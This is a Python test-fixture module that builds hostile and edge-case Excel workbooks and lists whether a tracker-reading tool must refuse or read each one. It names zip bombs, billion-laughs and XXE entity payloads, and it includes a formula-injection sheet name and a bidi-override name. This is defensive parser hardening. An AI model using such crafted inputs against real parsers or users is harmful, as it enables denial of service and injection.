    return raw_xlsx(path, [RawSheet("Actions", rows)])


# Date-formatted serial numbers: Excel's first and last day, its 29 February 1900, and
# numbers no date can be (negative, past 9999, huge, not a number at all).
EDGE_SERIALS = ["1", "59", "60", "61", "2958465", "2958465.99999", "0.5", "2958466", "0", "-1",
                "-693594", "1e15", "-1e15", "1e308", "-1e308", "4.9e-324", "-0", "NaN", "INF",
                "-INF", "1e999", "-1.0675e11"]  # fmt: skip
EDGE_TEXTS = ["01/01/1900", "1900-01-01", "29/02/1900", "31/12/9999", "9999-12-31",
              "1 January 10000", "00/01/1900", "31/12/1899", "0001-01-01"]  # fmt: skip


def _typed_formulas_without_values(path: Path) -> Path:
    """Formulas a program wrote with a type but no <v> at all (t="n", "str", "b",
    "inlineStr"): never calculated, as the untyped ones; and Excel's own empty text result
    (t="str" with an empty <v>), which is empty."""
    rows = tracker_rows(
        ["W1a", "W1", "Typed number", Raw('<c r="{ref}" s="1" t="n"><f>DATE(2019,3,31)</f></c>'),
         None, "RG", "m", "p", Raw('<c r="{ref}" t="str"><f>IF(1,"G","R")</f></c>')],
        ["W1b", "W1", "Empty text result", _formula("DATE(2019,3,31)", "43555", style="1"), None,
         "RG", "m", "p", _formula('""', "", "str")],
        ["W1c", "W1", "Typed boolean", Raw('<c r="{ref}" t="b"><f>TRUE()</f></c>'), None,
         Raw('<c r="{ref}" t="str"><f>Leads!A2</f></c>'), "m", "p", "G"],
        ["W1d", "W1", "Inline string", Raw('<c r="{ref}" t="inlineStr"><f>A1</f></c>'), None,
         "RG", "m", "p", "G"],
    )  # fmt: skip
    return raw_xlsx(path, [RawSheet("Actions", rows)])


def _date_range(path: Path) -> Path:
    """Due dates from 1900-01-01 to 9999-12-31 and numbers far outside them, as date-styled
    numbers, plain numbers and text; in the original and the revised due date."""
    rows = [list(HEADER)]
    for i, serial in enumerate(EDGE_SERIALS):
        dated = Raw(f'<c r="{{ref}}" s="1"><v>{serial}</v></c>')
        plain = Raw(f'<c r="{{ref}}" t="n"><v>{serial}</v></c>')
        rows.append([f"W1{i}", "W1", f"Due {serial}", dated, plain, "RG", "m", "p", "A/G"])
    for i, text in enumerate(EDGE_TEXTS):
        rows.append([f"W2{i}", "W2", f"Due {text}", text, text, "RG", "m", "p", "A/G"])
    rows.append(["W3a", "W3", "ISO date cells", Raw('<c r="{ref}" t="d"><v>9999-12-31</v></c>'),
                 Raw('<c r="{ref}" t="d"><v>-99999-01-01T00:00:00</v></c>'), "RG", "m", "p",
                 "A/G"])  # fmt: skip
    return raw_xlsx(path, [RawSheet("Actions", rows)])


def _date_system_1904(path: Path) -> Path:
    """A workbook in Excel's 1904 date system (Excel for Mac's before 2011): serial 42000 is
    28 Dec 2018 there, as a date-styled cell and as a plain number; 5 is no date."""
    rows = tracker_rows(
        ["W1a", "W1", "Plain number", 42000, None, "RG", "m", "p", "A/G"],
        ["W1b", "W1", "Date-styled", Raw('<c r="{ref}" s="1"><v>42000</v></c>'), None, "RG",
         "m", "p", "A/G"],
        ["W1c", "W1", "Revised, both plain", 42000, 42100, "RG", "m", "p", "A/G"],
        ["W1d", "W1", "A small number", 5, None, "RG", "m", "p", "A/G"],
    )  # fmt: skip
    return raw_xlsx(path, [RawSheet("Actions", rows)], workbook_pr='<workbookPr date1904="1"/>')


def _boolean_neither(path: Path) -> Path:
    """A boolean cell holding 2: no program that writes .xlsx files properly saves one."""
    row = list(ROW)
    row[3] = Raw('<c r="{ref}" t="b"><v>2</v></c>')
    return raw_xlsx(path, [RawSheet("Actions", tracker_rows(row))])


def _booleans_in_dates(path: Path) -> Path:
    """TRUE and FALSE as the due dates: typed, date-styled, as text."""
    cells = [
        (True, False),
        (Raw('<c r="{ref}" t="b" s="1"><v>1</v></c>'),
         Raw('<c r="{ref}" t="b" s="1"><v>0</v></c>')),
        (date(2019, 3, 31), True),
        ("TRUE", "FALSE"),
    ]  # fmt: skip
    rows = [list(HEADER)]
    for i, (due, revised) in enumerate(cells):
        rows.append([f"W1{chr(97 + i)}", "W1", f"Action {i}", due, revised, "RG", "m", "p", "A/G"])
    return raw_xlsx(path, [RawSheet("Actions", rows)])


# Sheet names Excel allows (at most 31 characters, none of \ / ? * [ ] :, no apostrophe at
# either end): quotes, symbols, right-to-left text, a bidi override, emoji.
ODD_SHEET_NAMES = [
    'Trust\'s "Actions" & <2019>',
    "פעולות ביקורת",
    "خطة العمل ٢٠١٩",
    "\u202eActions\u202c 100% $#@!",
    "=SUM(A1)+'x'!B2",
    "Actions 👩‍⚕️🏥",
    "'Quoted' sheet",  # Excel refuses this one: a hand-made file may not
    "Board paper",  # the paper's own sheet name, taken by the tracker
]


def _odd_sheet_names(path: Path) -> Path:
    sheets = []
    for i, name in enumerate(ODD_SHEET_NAMES):
        row = [f"W{i + 1}a", f"W{i + 1}", f"Action on {name}", date(2019, 3, 31), None, "RG", "m",
               "p", "A/R"]  # fmt: skip
        sheets.append(RawSheet(name, tracker_rows(row)))
    sheets.append(RawSheet("מקרא 'Legend'", LEGEND))
    sheets.append(RawSheet('القادة "Leads"', LEADS))
    return raw_xlsx(path, sheets)


def _header_16384_columns(path: Path) -> Path:
    """A header row filled to column XFD (16,384 columns), two actions, one filled as wide."""
    header = [*HEADER, *(f"Note {c}" for c in range(len(HEADER) + 1, 16_385))]
    wide = [*ROW, *(f"n{c}" for c in range(len(ROW) + 1, 16_385))]
    row = ["W1b", "W1", "Appraisals", date(2019, 6, 30), None, "RG", "m", "Done", "G"]
    row += [None] * (16_383 - len(row)) + ["far right"]
    return raw_xlsx(path, [RawSheet("Actions", [header, wide, row])])


def _sheets_300(path: Path) -> Path:
    """300 sheets: 297 tracker sheets of one action each, the registers, a blank sheet."""
    sheets = [
        RawSheet(f"Actions {i}", tracker_rows([f"W{i}a", f"W{i}", f"Action {i}",
                 date(2019, 3, 31), None, "RG", "m", "p", "A/G"]))
        for i in range(1, 298)
    ]  # fmt: skip
    sheets += [RawSheet("Legend", LEGEND), RawSheet("Leads", LEADS), RawSheet("Blank")]
    return raw_xlsx(path, sheets)


def _duplicate_refs(path: Path) -> Path:
    """5,000 actions, every one of them ref W1a."""
    rows = [["W1a", "W1", f"Action {i}", date(2019, 3, 31), None, "RG", "m", f"p {i}", "A/G"]
            for i in range(5_000)]  # fmt: skip
    return raw_xlsx(path, [RawSheet("Actions", tracker_rows(*rows))])


def _stray_cell(row: int, column: str = "A", value: str = "x") -> Callable[[Path], Path]:
    """A tracker with one action, and one stray cell far below it."""

    def build(path: Path) -> Path:
        stray = cell_xml(f"{column}{row}", value)
        xml = (
            f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{NS}">'
            + sheet_data(tracker_rows(ROW)).replace(
                "</sheetData>", f'<row r="{row}">{stray}</row></sheetData>'
            )
            + "</worksheet>"
        )
        return raw_xlsx(path, [RawSheet("Actions", xml=xml)])

    return build


def _header_only(path: Path) -> Path:
    return openpyxl_tracker(path, [list(HEADER)])


@dataclass(frozen=True)
class Case:
    """One hostile input: how to build it and what the tool must answer."""

    build: Callable[[Path], Path]
    expect: str  # "refused": exit 2, one line; "read": exit 0 or 1
    words: tuple[str, ...] = ()  # all must appear in the error line (case-insensitive)
    suffix: str = ".xlsx"
    env: dict[str, str] = field(default_factory=dict)
    big: bool = False  # slow to process: validate and build only
    # Held to the bounds every input of these kinds must keep (tests/test_hostile.py):
    # validate and build each within 20 s and 400 MB, a paper LibreOffice opens.
    bounded: bool = False


CASES: dict[str, Case] = {
    "not-a-zip": Case(_not_a_zip, "refused", ("does not start like",)),
    "empty-file": Case(_empty_file, "refused", ("empty",)),
    "truncated-zip": Case(_truncated, "refused", ("truncated",)),
    "corrupt-zip-entry": Case(_corrupt_entry, "refused", ("damaged",)),
    "zip-bomb-ratio": Case(_padded_sheet, "refused", ("WELLLED_XL_MAX_RATIO", "zip bomb")),
    "zip-too-many-entries": Case(_many_entries, "refused", ("WELLLED_XL_MAX_ENTRIES",)),
    "unpacked-over-limit": Case(
        _bulky,
        "refused",
        ("WELLLED_XL_MAX_UNCOMPRESSED_MB", "unpacks to"),
        env={"WELLLED_XL_MAX_UNCOMPRESSED_MB": "1"},
    ),
    "cell-beyond-row-limit": Case(_far_cell, "refused", ("WELLLED_XL_MAX_ROWS", "Actions")),
    "used-range-too-wide": Case(_wide_cell, "refused", ("WELLLED_XL_MAX_CELLS", "Actions")),
    "shared-strings-count-lies": Case(_lying_shared_strings, "refused", ("sharedStrings",)),
    "duplicate-zip-entry": Case(_duplicate_entry, "refused", ("two entries",)),
    "entity-expansion-in-sheet": Case(
        lambda p: _entity_sheet(p, BILLION_LAUGHS, "&lol9;"), "refused", ("DOCTYPE", "Actions")
    ),
    "external-entity-in-sheet": Case(
        lambda p: _entity_sheet(p, EXTERNAL_ENTITY, "&xxe;"), "refused", ("DOCTYPE", "Actions")
    ),
    "entity-expansion-in-shared-strings": Case(
        lambda p: _shared_string_tracker(p, BILLION_LAUGHS, "&lol9;"),
        "refused",
        ("DOCTYPE", "sharedStrings"),
    ),
    "external-entity-in-shared-strings": Case(
        lambda p: _shared_string_tracker(p, EXTERNAL_ENTITY, "&xxe;"),
        "refused",
        ("DOCTYPE", "sharedStrings"),
    ),
    "utf16-shared-strings-with-doctype": Case(
        _utf16_shared_strings, "refused", ("DOCTYPE", "sharedStrings")
    ),
    "encrypted-workbook": Case(_encrypted, "refused", ("password-protected",)),
    "legacy-xls": Case(_legacy_xls, "refused", ("97-2003",), suffix=".xls"),
    "legacy-xls-renamed-xlsx": Case(_legacy_xls, "refused", ("97-2003",)),
    "csv-renamed-xlsx": Case(_csv, "refused", ("CSV",)),
    "html-renamed-xlsx": Case(_html, "refused", ("HTML",)),
    "word-document-renamed": Case(_docx, "refused", ("Word",)),
    "zip-without-workbook": Case(_plain_zip, "refused", ("no xl/workbook.xml",)),
    "bad-shared-string-index": Case(_bad_shared_string_index, "refused", ()),
    "malformed-sheet-xml": Case(_malformed_xml, "refused", ()),
    "xlsm-with-macros": Case(_xlsm, "read", suffix=".xlsm"),
    "empty-workbook": Case(_empty_workbook, "refused", ("no sheet has a tracker header",)),
    "no-tracker-sheet": Case(_no_tracker_sheet, "refused", ("no sheet has a tracker header",)),
    "headers-misspelt": Case(_misspelt_headers, "refused", ("no sheet has a tracker header",)),
    "headers-duplicated": Case(_duplicated_headers, "read"),
    "headers-missing": Case(_missing_headers, "read"),
    "merged-cells-across-rows": Case(_merged_rows, "read"),
    "formula-error-values": Case(_formula_errors, "read"),
    "formulas-without-cached-values": Case(_formulas_uncached, "read"),
    "types-swapped": Case(_types_swapped, "read"),
    "cells-32767-characters": Case(_huge_cells, "read"),
    "control-rtl-emoji": Case(_odd_characters, "read"),
    "hidden-rows-columns-sheets": Case(_hidden, "read"),
    "formula-injection-text": Case(_injections, "read"),
    "sheet-named-like-a-path": Case(_path_sheet_name, "read"),
    "rows-50000": Case(_many_rows, "read", big=True),
    "control-characters-every-field": Case(_control_characters, "read", bounded=True),
    "text-beyond-32767-characters": Case(_beyond_32767, "read", bounded=True),
    "formulas-in-dates-and-status": Case(_formulas_in_dates_and_status, "read", bounded=True),
    "formulas-typed-without-values": Case(_typed_formulas_without_values, "read", bounded=True),
    "dates-1900-to-9999-and-beyond": Case(_date_range, "read", bounded=True),
    "booleans-in-date-columns": Case(_booleans_in_dates, "read", bounded=True),
    "dates-in-the-1904-date-system": Case(_date_system_1904, "read", bounded=True),
    "boolean-cell-neither-true-nor-false": Case(
        _boolean_neither, "refused", ("cannot be read", "boolean"), bounded=True
    ),
    "sheet-names-quotes-symbols-rtl": Case(_odd_sheet_names, "read", bounded=True),
    "header-16384-columns": Case(_header_16384_columns, "read", bounded=True),
    "sheets-300": Case(_sheets_300, "read", bounded=True),
    "refs-5000-duplicates": Case(_duplicate_refs, "read", bounded=True),
    # Read: a few cells far down make a sparse sheet, read cell by cell, however wide its
    # used range (its memory follows the cells it holds).
    "stray-cell-row-1000000": Case(_stray_cell(1_000_000, "H", "stray note"), "read", bounded=True),
    "stray-text-in-ref-column-row-1000000": Case(_stray_cell(1_000_000), "read", bounded=True),
    "stray-cell-row-1000000-column-xfd": Case(_stray_cell(1_000_000, "XFD"), "read", bounded=True),
    # Excel's last row, and its last cell: as far as a user can type, so read.
    "stray-cell-row-1048576": Case(_stray_cell(1_048_576), "read", bounded=True),
    "stray-cell-xfd1048576": Case(_stray_cell(1_048_576, "XFD"), "read", bounded=True),
    "stray-cell-past-excel-last-row": Case(
        _stray_cell(1_048_577), "refused", ("WELLLED_XL_MAX_ROWS", "1,048,577"), bounded=True
    ),
    "header-row-no-actions": Case(_header_only, "read", bounded=True),
}


def build_case(case_id: str, folder: Path) -> Path:
    """Build one case into `folder`; return the file to give the tool."""
    case = CASES[case_id]
    folder.mkdir(parents=True, exist_ok=True)
    return case.build(folder / f"{case_id}{case.suffix}")
